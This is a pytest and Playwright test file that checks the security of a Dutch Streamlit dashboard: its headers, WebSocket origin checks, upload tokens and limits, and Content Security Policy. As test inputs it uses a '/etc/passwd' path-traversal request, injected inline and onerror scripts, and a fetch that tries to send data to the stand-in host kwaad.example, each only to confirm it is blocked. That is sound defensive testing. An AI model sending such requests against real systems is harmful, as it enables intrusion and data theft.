"""The real server as an attacker meets it, and a real browser that holds every page to the headers."""

import http.client
import json
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Literal
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, Page, expect
from streamlit.proto.BackMsg_pb2 import BackMsg
from streamlit.proto.ForwardMsg_pb2 import ForwardMsg
from websockets.exceptions import ConnectionClosed, InvalidStatus
from websockets.sync.client import ClientConnection, connect
from websockets.typing import Origin

from ketenmonitor.ui.dutch import WORDS
from ketenmonitor.ui.headers import script_hashes
from ketenmonitor.ui.navigation import PAGINAS

pytestmark = pytest.mark.browser

MB = 1024 * 1024
# Streamlit's reader of messages tries WebAssembly, and does without when the browser refuses it.
EXPECTED = ["script-src", "wasm-eval"]
SCHEMES: tuple[Literal["light", "dark"], ...] = ("light", "dark")
ATTENTION = {"light": "rgb(179, 74, 0)", "dark": "rgb(245, 164, 105)"}  # at least 4.5 : 1 on the page
# The pages that have a chart on the small chain: drawn without eval.
WITH_CHARTS = frozenset({"wachtlijst", "tijd", "partnerspiegel", "leveringen"})
ENGLISH = {english for words in WORDS.values() for english in words}
# Every text and every name that is read out or shown on hovering.
READ_OR_HEARD = """() => [...document.querySelectorAll('body *')].flatMap(e => [
  ...['aria-label', 'title', 'placeholder', 'alt'].map(name => e.getAttribute(name)?.split(':')[0]),
  ...[...e.childNodes].filter(n => n.nodeType === 3).map(n => n.textContent.trim())])"""
WATCH = """
window.blocked = [];
document.addEventListener(
  "securitypolicyviolation", (e) => window.blocked.push([e.violatedDirective, e.blockedURI])
);
"""


@dataclass
class Answer:
    status: int
    headers: dict[str, str] = field(default_factory=dict)
    body: str = ""


def ask(
    server: str, method: str, path: str, headers: dict[str, str] | None = None, body: bytes = b""
) -> Answer:
    connection = http.client.HTTPConnection(urlsplit(server).netloc, timeout=60)
    connection.request(method, path, body or None, headers or {})
    found = connection.getresponse()
    told = Answer(
        found.status, {k.lower(): v for k, v in found.getheaders()}, found.read().decode("utf-8", "replace")
    )
    connection.close()
    return told


def stream(server: str, origin: str) -> ClientConnection:
    """The WebSocket of a page that was loaded from this origin."""
    place = urlsplit(server).netloc
    return connect(f"ws://{place}/_stcore/stream", max_size=None, open_timeout=60, origin=Origin(origin))


def visit(socket: ClientConnection) -> str:
    """Open the first page over this WebSocket, and give the number of the session it got."""
    socket.send(BackMsg(rerun_script={"query_string": ""}).SerializeToString())
    while True:
        message = ForwardMsg.FromString(socket.recv(60))
        if message.WhichOneof("type") == "new_session":
            return message.new_session.initialize.session_id


def read_all(socket: ClientConnection) -> None:
    """Read until the server ends the connection."""
    while True:
        socket.recv(60)


@pytest.fixture
def watched(browser: Browser) -> Iterator[Page]:
    """A visitor whose browser keeps what the policy of the server made it refuse."""
    context = browser.new_context(locale="nl-NL", viewport={"width": 1400, "height": 1000})
    context.set_default_timeout(60_000)
    context.add_init_script(WATCH)
    yield context.new_page()
    context.close()


def settled(page: Page) -> None:
    expect(page.locator("[data-testid=stApp][data-test-script-state=notRunning]")).to_be_visible()
    expect(page.locator("[data-testid=stSkeleton]")).to_have_count(0)


@pytest.mark.parametrize(
    "method, path, status",
    [
        ("GET", "/", 200),
        ("GET", "/wachtlijst", 200),
        ("GET", "/overzicht", 307),
        ("GET", "/_stcore/health", 200),
        ("GET", "/_stcore/host-config", 200),
        ("GET", "/favicon.png", 200),
        ("GET", "/media/0123456789abcdef.csv", 404),
        ("GET", "/_stcore/metrics", 404),
        ("GET", "/_stcore/agent/openapi.json", 404),
        ("GET", "/..%2f..%2fetc/passwd", 400),
        ("GET", "/oauth2callback?code=x&state=y", 302),
        ("POST", "/_stcore/agent/interact", 404),
        ("POST", "/wachtlijst", 405),
        ("TRACE", "/", 405),
        ("PUT", "/_stcore/upload_file/a/b", 403),
        ("DELETE", "/_stcore/upload_file/a/b", 403),
    ],
)
def test_every_answer_has_the_headers_and_none_names_the_server(
    server: str, method: str, path: str, status: int
) -> None:
    found = ask(server, method, path)
    assert found.status == status
    for name in ("content-security-policy", "permissions-policy", "cross-origin-opener-policy"):
        assert found.headers[name]
    assert found.headers["x-content-type-options"] == "nosniff"
    assert not {"server", "x-powered-by", "via"} & found.headers.keys()
    assert "Traceback" not in found.body
    if status >= 400 and found.body != "Bad Request":
        assert found.body.startswith("Dit ")


def test_the_page_is_dutch_and_the_script_within_it_is_allowed_by_the_policy(server: str) -> None:
    page = ask(server, "GET", "/wachtlijst")
    assert '<html lang="nl"' in page.body
    [allowed] = script_hashes(page.body)
    assert allowed in page.headers["content-security-policy"]


def test_no_other_site_may_steer_or_embed_the_pages(server: str) -> None:
    elsewhere = {"Origin": "https://kwaad.example"}
    config = json.loads(ask(server, "GET", "/_stcore/host-config").body)
    assert config["allowedOrigins"] == []
    for path in ("/_stcore/host-config", "/_stcore/health"):
        asked = ask(server, "GET", path, elsewhere)
        assert asked.status == 403  # without sign-in not even asked
        assert "access-control-allow-origin" not in asked.headers


@pytest.mark.parametrize("origin", ["https://kwaad.example", "null", "http://localhost.kwaad.example"])
def test_a_websocket_from_another_site_is_refused(server: str, origin: str) -> None:
    with pytest.raises(InvalidStatus) as refused:
        stream(server, origin).close()
    assert refused.value.response.status_code == 403


def test_a_websocket_for_another_host_is_refused(server: str) -> None:
    connection = http.client.HTTPConnection(urlsplit(server).netloc, timeout=60)
    handshake = {
        "Host": "kwaad.example",
        "Origin": "http://kwaad.example",
        "Connection": "Upgrade",
        "Upgrade": "websocket",
        "Sec-WebSocket-Version": "13",
        "Sec-WebSocket-Key": "AAAAAAAAAAAAAAAAAAAAAA==",
    }
    connection.request("GET", "/_stcore/stream", headers=handshake)
    assert connection.getresponse().status == 403
    connection.close()


def test_a_message_beyond_the_limit_ends_the_connection(server: str) -> None:
    with stream(server, server) as socket:
        visit(socket)
        socket.send(b"\0" * 6 * MB)  # server.maxWidgetStateSize is 5
        with pytest.raises(ConnectionClosed) as closed:
            read_all(socket)
    assert closed.value.rcvd
    assert closed.value.rcvd.code == 1009


def test_an_upload_needs_the_token_of_the_visit_and_stays_within_the_limit(server: str) -> None:
    token = ask(server, "GET", "/_stcore/health").headers["set-cookie"].split(";")[0]
    headers = {"Cookie": token, "X-Xsrftoken": token.partition("=")[2]}
    form = b'--g\r\nContent-Disposition: form-data; name="f"; filename="a.csv"\r\n\r\na;b\r\n--g--\r\n'
    kind = {"Content-Type": "multipart/form-data; boundary=g"}
    with stream(server, server) as socket:
        place = f"/_stcore/upload_file/{visit(socket)}/bestand"
        assert ask(server, "PUT", place, kind, form).status == 403
        assert ask(server, "PUT", place, kind | headers | {"X-Xsrftoken": "2|0|0|0"}, form).status == 403
        assert ask(server, "PUT", place, kind | headers, form).status == 204
        large = ask(server, "PUT", place, kind | headers | {"Content-Length": str(301 * MB)})
        assert large.status == 413
        assert large.body.startswith("Dit bestand is te groot")
        other = ask(server, "PUT", "/_stcore/upload_file/geraden/bestand", kind | headers, form)
        assert (other.status, "Streamlit" in other.body) == (400, False)


def test_every_page_is_drawn_in_light_and_dark_without_anything_that_the_policy_forbids(
    watched: Page, server: str
) -> None:
    errors: list[str] = []
    watched.on("pageerror", lambda error: errors.append(str(error)))
    watched.on("console", lambda m: errors.append(m.text) if "Content Security Policy" in m.text else None)
    drawn = watched.locator("[data-testid=stVegaLiteChart] :is(canvas, svg)").first
    for page in PAGINAS:
        watched.emulate_media(color_scheme="light")
        watched.goto(f"{server}/{page.adres}")
        for scheme in SCHEMES:
            watched.emulate_media(color_scheme=scheme)
            expect(watched.locator("[data-testid=stApp]")).to_have_css("color-scheme", scheme)
            expect(watched.locator(".km-omstandigheid")).to_have_css("color", ATTENTION[scheme])
            expect(watched.get_by_role("heading", level=1)).to_have_text(page.vraag)
            settled(watched)
            if page.adres in WITH_CHARTS:
                expect(drawn).to_be_visible()
        assert [word for word in watched.evaluate(READ_OR_HEARD) if f"`{word}`" in ENGLISH] == [], page.adres
        blocked = watched.evaluate("window.blocked")
        assert [b for b in blocked if b != EXPECTED] == [], page.adres
    assert errors == []


def test_the_print_button_prints_once(watched: Page, server: str) -> None:
    watched.goto(f"{server}/wachtlijst?weergave=afdruk")
    button = watched.get_by_role("button", name="Afdrukken")
    expect(button).to_be_visible()
    watched.evaluate("() => { window.printed = 0; window.print = () => { window.printed += 1; }; }")
    button.click()
    assert watched.evaluate("window.printed") == 1
    assert [b for b in watched.evaluate("window.blocked") if b != EXPECTED] == []


def test_a_script_that_someone_slips_into_a_page_does_not_run(watched: Page, server: str) -> None:
    watched.goto(server)
    expect(watched.get_by_role("heading", level=1)).to_be_visible()
    # as a task of the page itself: what a test evaluates directly is beyond its policy
    watched.evaluate(
        """() => new Promise((done) => setTimeout(() => {
            window.ran = [];
            const inline = document.createElement("script");
            inline.textContent = "window.ran.push('inline')";
            document.body.append(inline);
            const elsewhere = document.createElement("script");
            elsewhere.src = "https://kwaad.example/x.js";
            elsewhere.onerror = () => done();
            const image = document.createElement("img");
            image.setAttribute("onerror", "window.ran.push('handler')");
            image.src = "data:,";
            document.body.append(image);
            try { eval("window.ran.push('eval')"); } catch (e) { window.refused = e.name; }
            document.body.append(elsewhere);
        }, 0))"""
    )
    watched.wait_for_timeout(200)
    assert watched.evaluate("window.ran") == []
    assert watched.evaluate("window.refused") == "EvalError"
    blocked = [tuple(b) for b in watched.evaluate("window.blocked")]
    assert {
        ("script-src-elem", "inline"),
        ("script-src-attr", "inline"),
        ("script-src", "eval"),
        ("script-src-elem", "https://kwaad.example/x.js"),
    } <= set(blocked)


def test_a_page_does_not_send_anything_to_another_site(watched: Page, server: str) -> None:
    watched.goto(server)
    expect(watched.get_by_role("heading", level=1)).to_be_visible()
    refused = watched.evaluate(
        "() => fetch('https://kwaad.example/?cijfers=1').then(() => 'sent', () => 'refused')"
    )
    assert refused == "refused"
    assert ["connect-src", "https://kwaad.example/?cijfers=1"] in watched.evaluate("window.blocked")


def test_a_server_starts_without_a_warning_on_the_console(
    server: str, keten_en_database: tuple[Path, Path]
) -> None:
    assert server.startswith("http://localhost:")
    told = keten_en_database[1].with_suffix(".log").read_text("utf-8")
    assert "You can now view your Streamlit app" in told
    assert "ScriptRunContext" not in told  # something of a page, outside of one
